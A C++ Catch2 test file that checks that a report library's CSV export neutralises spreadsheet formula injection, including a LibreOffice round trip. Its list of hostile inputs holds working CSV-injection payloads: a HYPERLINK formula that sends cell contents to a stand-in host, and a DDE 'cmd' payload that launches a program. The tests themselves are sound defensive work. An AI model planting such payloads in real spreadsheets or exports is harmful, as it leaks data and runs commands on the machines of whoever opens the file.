// The report CSV opened in LibreOffice (formulas evaluated on import, as a user would open
// it): no text a device or a register chose becomes a formula, and figures stay numbers.
#include <catch2/catch.hpp>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>

#include "report/csv_text.h"
#include "report/tabular_report.h"
#include "tests/report/sample_report.h"
#include "tests/support/spreadsheet_check.h"

using namespace ck;
namespace fs = std::filesystem;

namespace {

fs::path scratchDir() {
    fs::path base = fs::path(CK_BINARY_DIR) / "test-scratch" / "test_tabular_report";
    fs::create_directories(base);
    std::string tmpl = (base / "csv-lo-XXXXXX").string();
    REQUIRE(mkdtemp(tmpl.data()) != nullptr);
    return tmpl;
}

void writeText(const fs::path& p, const std::string& text) { std::ofstream(p, std::ios::binary) << text; }

// Texts that Excel, LibreOffice or Sheets run when a cell starts with them.
const std::vector<std::string> kHostile = {
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click for details\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
};

}  // namespace

TEST_CASE("spreadsheetSafe: formula starts get an apostrophe, numbers and plain text stay", "[tabular][csv]") {
    for (const std::string& s : kHostile) CHECK(report::spreadsheetSafe(s) == "'" + s);
    CHECK(report::spreadsheetSafe("-12.5") == "-12.5");
    CHECK(report::spreadsheetSafe("-3") == "-3");
    CHECK(report::spreadsheetSafe("-") == "'-");
    CHECK(report::spreadsheetSafe("Sri Velavan Knit Fashions") == "Sri Velavan Knit Fashions");
    CHECK(report::spreadsheetSafe("") == "");
    std::string field;
    report::appendCsvField(field, "=A1,\"x\"");
    CHECK(field == "\"'=A1,\"\"x\"\"\"");
}

TEST_CASE("the report CSV in LibreOffice has no formula cell, negative figures stay numbers", "[tabular][csv][libreoffice]") {
    report::BaselineReport r = test::sampleReport();
    // Text from outside the report's own code: row labels (register names, answers) and text cells.
    report::Table& t = r.sections[0].tables[0];
    for (size_t i = 0; i < kHostile.size(); ++i)
        t.rows.push_back({"hostile_" + std::to_string(i), kHostile[i], {report::Cell::ofText(kHostile[i])}, false});
    t.rows.push_back({"change", "Change in units", {report::Cell::ofNumber(-5, "units")}, false});
    const fs::path scratch = scratchDir();

    // The oracle first: the same cells written raw must come out as formulas, or this test
    // could not see what it looks for.
    std::string raw = "label,text\r\n";
    for (const std::string& s : kHostile) {
        std::string q = s;
        for (size_t at = q.find('"'); at != std::string::npos; at = q.find('"', at + 2)) q.insert(at, "\"");
        raw += "\"" + q + "\",\"" + q + "\"\r\n";
    }
    writeText(scratch / "raw.csv", raw);
    const auto rawFormulas = test::formulaCells(test::csvAsFlatOds(scratch / "raw.csv", scratch));
    CHECK(rawFormulas.size() >= 4);

    writeText(scratch / "report.csv", report::renderCsv(r));
    const std::string fods = test::csvAsFlatOds(scratch / "report.csv", scratch);
    const auto formulas = test::formulaCells(fods);
    for (const auto& f : formulas) UNSCOPED_INFO("formula cell: " << f);
    CHECK(formulas.empty());
    CHECK(test::numberCells(fods, "-5") == 1);    // the negative figure is a number
    CHECK(test::numberCells(fods, "1240") == 1);  // and so are the others
}
